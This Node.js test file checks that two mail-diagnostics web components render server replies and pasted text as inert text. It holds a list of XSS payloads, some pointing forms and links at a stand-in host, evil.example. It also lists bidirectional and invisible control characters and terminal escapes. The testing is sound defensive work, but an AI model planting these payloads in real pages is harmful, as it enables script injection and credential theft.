// What servers, pages and people say is shown as text: markup, bidirectional controls, hidden characters.
import assert from "node:assert/strict";
import { after, afterEach, before, test } from "node:test";
import { PAGES, answering, document_, fill, launch, open, press, serve } from "./homes/harness.mjs";

const at = (code) => String.fromCodePoint(code);
const MARKUP = [
  "<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "<svg onload=alert(1)>", "<iframe src=javascript:alert(1)>", "<a href=javascript:alert(1)>x</a>", "<style>*{display:none}</style>",
  "<link rel=stylesheet href=//evil.example>", "<base href=//evil.example>", "<meta http-equiv=refresh content=0>", "<object data=x>", "<embed src=x>", "<form action=//evil.example><input name=password>", "<button formaction=//evil.example>",
  "<math><mi xlink:href=javascript:alert(1)>", "<template><script>alert(1)</script></template>", "<slot name=reauthorize>", "<mailmend-check relay=ws://evil.example>", "<details open ontoggle=alert(1)>", "<video><source onerror=alert(1)>", "<body onload=alert(1)>",
  "</pre></blockquote><script>alert(1)</script>", "\"><script>alert(1)</script>", "'><img src=x onerror=alert(1)>", "--><script>alert(1)</script>", "]]><script>alert(1)</script>", "</textarea><script>alert(1)</script>", "</title><script>alert(1)</script>",
  "&lt;script&gt;alert(1)&lt;/script&gt;", "&#60;script&#62;", "<!--", "<![CDATA[", "<?xml version=1?>", "${alert(1)}", "{{constructor.constructor('alert(1)')()}}", "<%= 7*7 %>", "{ $host }", "{ -term }", "javascript:alert(1)", "data:text/html,<script>alert(1)</script>", "<scr\u0000ipt>alert(1)</script>",
  "<ScRiPt>alert(1)</sCrIpT>", "\u003cimg src=x\u003e", "[x](javascript:alert(1))", "![x](//evil.example/x.png)", "```\n<script>alert(1)</script>\n```", "| a | b |", "# heading", "%3Cscript%3E", "\\x3cscript\\x3e", "+ADw-script+AD4-", "<img src='x' onerror='alert(1)", "<<script>alert(1)//<</script>",
];
const CONTROLS = [
  ...[0x00, 0x01, 0x07, 0x08, 0x0b, 0x0c, 0x1b, 0x1f, 0x7f, 0x80, 0x85, 0x9b, 0x9f, 0xad].map((code) => `left${at(code)}right`),
  ...[0x61c, 0x200e, 0x200f, 0x202a, 0x202b, 0x202c, 0x202d, 0x202e, 0x2066, 0x2067, 0x2068, 0x2069].map((code) => `left${at(code)}right`),
  ...[0x34f, 0x115f, 0x1160, 0x180e, 0x200b, 0x200c, 0x200d, 0x2028, 0x2029, 0x2060, 0x2061, 0x2064, 0x206a, 0x206f, 0x3164, 0xfe0f, 0xfeff, 0xfff9, 0xfffb, 0xfffe, 0xffff, 0xe0001, 0xe0041, 0xe007f, 0xe000, 0xf8ff, 0xf0000, 0x10fffd].map((code) => `left${at(code)}right`),
];
const MIXED = [
  "\u202egnp.exe\u202c", "\u2069\u2069\u2069escaped isolation", "\u2068\u2068\u2068never closed", "\u001b[31mred\u001b[0m", "\u001b]0;title\u0007", "\u001b[2J\u001b[H", "\u009b31m", "Z" + "\u0300".repeat(60) + "algo", "\ufdfd".repeat(12), "A".repeat(4000), "ＡＢＣ ｆｕｌｌ", "\u{1f468}\u200d\u{1f469}\u200d\u{1f467}", "\ud800 alone", "alone \udc00", "שלום [AUTHENTICATIONFAILED] مرحبا", "\u202b<b>rtl markup</b>\u202c", "a\r\n\r\nb", "a\tb\vc\fd", "a\u00a0\u3000b", "\u0e49".repeat(40), "0\u20e3#\ufe0f", "\u2800\u2800\u2800", "x\u{e0061}\u{e007f}y", "\ufeff\ufeff<b>", "\u2066<i>\u2069", "-- \r\n.\r\n", "\u0489".repeat(30),
];
const PAYLOADS = [...MARKUP, ...CONTROLS, ...MIXED];
/** Nothing of this may be in what is shown: it hides, reorders or moves. (U+2068 and U+2069 are ours only as elements.) */
const HIDDEN = /[\u0000-\u0008\u000b\u000c\u000e-\u001f\u007f-\u009f\u061c\u200e\u200f\u202a-\u202e\u2066-\u2069\u200b\u2060-\u2064\u206a-\u206f\ufeff\ufff9-\ufffb\u{e0000}-\u{e0fff}]/u;

let browser;
let site;
before(async () => {
  site = await serve({ routes: { "/check.html": document_(`<mailmend-check relay="ws://127.0.0.1:18474/v1/check"></mailmend-check>`), "/explain.html": document_(`<mailmend-explain no-article></mailmend-explain>`) } });
  browser = await launch();
});
after(async () => { await browser?.close(); await site?.stop(); });
afterEach(async () => {
  for (const context of browser.contexts()) await context.close();
  assert.deepEqual(site.reports.splice(0), [], "the policy's report address heard nothing");
});

/** The elements that are in the shadow tree, and what of the quotes is not as it should be. */
const inspect = (page, at) => page.evaluate((selector) => {
  const root = document.querySelector(selector).shadowRoot;
  const foreign = [...root.querySelectorAll("script, iframe, object, embed, link, base, meta, img, video, source, math, template, body, mailmend-check, [onerror], [onload], [ontoggle], [href^='javascript'], [formaction]")].map((node) => node.outerHTML.slice(0, 80));
  return { foreign, quotes: [...root.querySelectorAll("[part=server-text]")].map((node) => node.textContent), children: [...root.querySelectorAll("[part=server-text] :not(mark)")].length };
}, at);

test("there are enough of them", () => assert.ok(new Set(PAYLOADS).size >= 120, String(PAYLOADS.length)));

test("from a mail server", async () => {
  let payload = "";
  const page = await open(browser, `${PAGES}/check.html`, { relay: (relay) => {
    const rejected = { stage: "sign_in", fault: "rejected", exchanges: [{ command: "AUTHENTICATE", reply: { lines: [`a1 NO [AUTHENTICATIONFAILED] say ${payload} end`], status: "NO", code: "AUTHENTICATIONFAILED" } }] };
    answering({ imap: rejected })(relay);
  } });
  await page.locator("mailmend-check [part=check]").waitFor();
  await fill(page, { smtp: null });
  for (payload of PAYLOADS) {
    await press(page);
    await page.waitForFunction(() => !document.querySelector("mailmend-check").shadowRoot.querySelector(".cancel"));
    await page.locator("mailmend-check [data-cause] [part=server-text]").first().waitFor({ state: "attached" });
    const { foreign, quotes, children } = await inspect(page, "mailmend-check");
    assert.deepEqual(foreign, [], payload);
    assert.equal(children, 0, payload);
    for (const quote of quotes) assert.ok(!HIDDEN.test(quote), JSON.stringify([payload, quote]));
    // What can be read is all there: nothing of the markup was taken for markup.
    if (MARKUP.includes(payload)) assert.ok(quotes.some((quote) => quote.replace(/\s+/g, " ").includes(payload.replace("\u0000", "␀").replace(/\s+/g, " "))), JSON.stringify([payload, quotes]));
  }
  assert.deepEqual(page.complaints, []);
});

test("from the paste box", async () => {
  const page = await open(browser, `${PAGES}/explain.html`);
  await page.locator("mailmend-explain #text").waitFor();
  for (const payload of PAYLOADS) {
    await page.evaluate((text) => { document.querySelector("mailmend-explain").text = text; }, `535 5.7.8 Authentication failed: ${payload}`);
    await page.evaluate(() => document.querySelector("mailmend-explain").updateComplete);
    const { foreign, quotes, children } = await inspect(page, "mailmend-explain");
    assert.deepEqual(foreign, [], payload);
    assert.equal(children, 0, payload);
    for (const quote of quotes) assert.ok(!HIDDEN.test(quote), JSON.stringify([payload, quote]));
  }
  assert.deepEqual(page.complaints, []);
});
